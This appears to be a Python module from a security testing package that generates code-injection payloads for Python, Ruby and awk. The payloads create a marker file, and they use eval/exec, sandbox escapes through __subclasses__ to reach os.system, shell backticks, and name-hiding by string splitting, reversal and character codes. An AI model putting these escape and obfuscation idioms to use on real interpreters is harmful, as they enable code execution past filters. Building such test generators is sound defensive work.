"""Code injection where an expression is run: what makes a file × how the name of it is hidden."""

from __future__ import annotations

import random
from collections.abc import Mapping
from typing import Literal

from pydantic import validate_call

from unseen.security.attacks.grammar import Idioms, drawer, extras, forms

Kind = Literal["python", "ruby", "awk"]

_PYTHON = {
    "call": ("open('{f}', 'w')", "(open)('{f}', 'w')", "[open][0]('{f}', 'w')"),
    "import": (
        "__import__('os').system('touch {f}')",
        "__import__('pathlib').Path('{f}').touch()",
        "__import__('o' + 's').mkdir('{f}')",
    ),
    "compiled": (
        "exec(\"open('{f}', 'w')\")",
        "eval({hidden:open})('{f}', 'w')",
        "eval(\"open('{f}', 'w')\")",
    ),
    "builtins": (
        "(__builtins__ if isinstance(__builtins__, dict) else vars(__builtins__))[{hidden:open}]('{f}', 'w')",
        "(vars(__builtins__) if hasattr(__builtins__, 'open') else __builtins__)[{hidden:open}]('{f}', 'w')",
    ),
    "subclasses": (
        "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == {hidden:_wrap_close}][0]"
        ".__init__.__globals__[{hidden:system}]('touch {f}')",
        "[c for c in (1).__class__.__mro__[1].__subclasses__() if c.__name__ == {hidden:_wrap_close}]"
        "[0].__init__.__globals__[{hidden:system}]('touch {f}')",
    ),
    "method": ("min.__self__.open('{f}', 'w')", "[].append.__class__ and abs.__self__.open('{f}', 'w')"),
    "hidden_method": (
        "max.__self__.__dict__[{hidden:open}]('{f}', 'w')",
        "getattr(abs.__self__, {hidden:open})('{f}', 'w')",
        "vars(min.__self__)[{hidden:open}]('{f}', 'w')",
    ),
    "lambda": (
        "(lambda: open('{f}', 'w'))()",
        "(lambda n: open(n, 'w'))('{f}')",
        "[open(n, 'w') for n in ['{f}']][0]",
    ),
    "format": ("f\"{open('{f}', 'w')}\"", "'%s' % open('{f}', 'w')"),
}
_RUBY = {
    "file": (
        "File.write('{f}', '')",
        "IO.write(\"{f}\", '')",
        "File.open('{f}', 'w')",
        "File.new('{f}', 'w')",
    ),
    "command": (
        "system('touch {f}')",
        "`touch {f}`",
        "%x(touch {f})",
        "IO.popen('touch {f}').read",
        "%x[touch {f}]",
    ),
    "send": (
        "send({hidden:system}, 'touch {f}')",
        "__send__({hidden:system}, 'touch {f}')",
        "Kernel.public_send({hidden:system}, 'touch {f}')",
    ),
    "constant": (
        "Object.const_get({hidden:File}).write('{f}', '')",
        "Object.const_get({hidden:IO}).write('{f}', '')",
        "Kernel.const_get({hidden:File}).open('{f}', 'w')",
    ),
    "method": (
        "method({hidden:system}).call('touch {f}')",
        "method({hidden:system}).unbind.bind(self).call('touch {f}')",
        "File.method({hidden:write}).call('{f}', '')",
        "method({hidden:system}).('touch {f}')",
    ),
    "compiled": (
        "eval(\"File.write('{f}', '')\")",
        "instance_eval(\"File.write('{f}', '')\")",
        "binding.eval({hidden:File} + \".write('{f}', '')\")",
    ),
    "interpolated": (
        "\"#{File.write('{f}', '')}\"",
        ":\"#{File.write('{f}', '')}\"",
        "/#{File.write('{f}', '')}/",
    ),
    "directory": (
        "Dir.mkdir('{f}')",
        "open('{f}', 'w')",
        "Kernel.open('{f}', 'w')",
        "test(?e, '.') && Dir.mkdir('{f}')",
    ),
}
_AWK = {
    "redirection": ("1 > {f}", "1 >> {f}", "(1) > {f}", "2 *3>{f}"),
    "system": ('system("touch {f}")', 'system("to" "uch {f}")', '1 system("touch {f}")'),
    "pipe": ('1 | "cat > {f}"', '1|"tee {f}"', '(1) | ("cat > " {f})'),
    "getline": ('("touch {f}" | getline)', '(("to" "uch {f}") | getline)'),
    "statement": ("1; print 1 > {f}", "1; printf 1 >> {f}", "1\nprint 1 > {f}"),
    "block": ("1 }\nEND { print 1 > {f}", '1 } END { system("touch {f}")', "1 } BEGIN { print 1 > {f}"),
}
_TABLES: Mapping[Kind, Mapping[str, tuple[str, ...]]] = {"python": _PYTHON, "ruby": _RUBY, "awk": _AWK}


@validate_call
def idioms(
    *, kind: Kind, file: str, around: tuple[str, ...] = ("{e}",), extra: tuple[str, ...] = ()
) -> Idioms:
    """Give the idioms of code injection; each makes a file, or a folder of that name, in the working folder.

    Args:
        kind: the language that runs the expression.
        file: name of the file; for awk a number such as `7`, which is a name without quotes.
        around: what stands around the expression `{e}`, as `1 + {e}`, for programs that want something there.
        extra: idioms of the item's own, with `{f}` for the file.
    """

    def spell(rng: random.Random, text: str) -> str:
        while "{hidden:" in text:
            before, _, rest = text.partition("{hidden:")
            name, _, after = rest.partition("}")
            text = before + _hidden(rng, name, kind) + after
        return text.replace("{f}", file)

    found = {
        name: forms(spell, *(frame.replace("{e}", text) for frame in around for text in texts))
        for name, texts in _TABLES[kind].items()
    }
    return {**found, **extras(spell, extra)}


draw = drawer(idioms)


def _hidden(rng: random.Random, name: str, kind: Kind) -> str:
    """Draw an expression whose value is a name that the text does not contain."""
    cut = rng.randint(1, len(name) - 1)
    ways = [f"'{name[:cut]}' + '{name[cut:]}'", f"'{name[:cut]}''{name[cut:]}'"]
    if kind == "python":
        ways += [
            f"'{name[::-1]}'[::-1]",
            "''.join(map(chr, [" + ", ".join(str(ord(sign)) for sign in name) + "]))",
        ]
        ways.append("'" + "".join(f"\\x{ord(sign):02x}" for sign in name) + "'")
    else:
        ways += [f"'{name[::-1]}'.reverse", "[" + ", ".join(str(ord(sign)) for sign in name) + "].pack('c*')"]
        ways.append(f'"{name[:cut]}#{{}}{name[cut:]}"')
    return f"({rng.choice(ways)})"
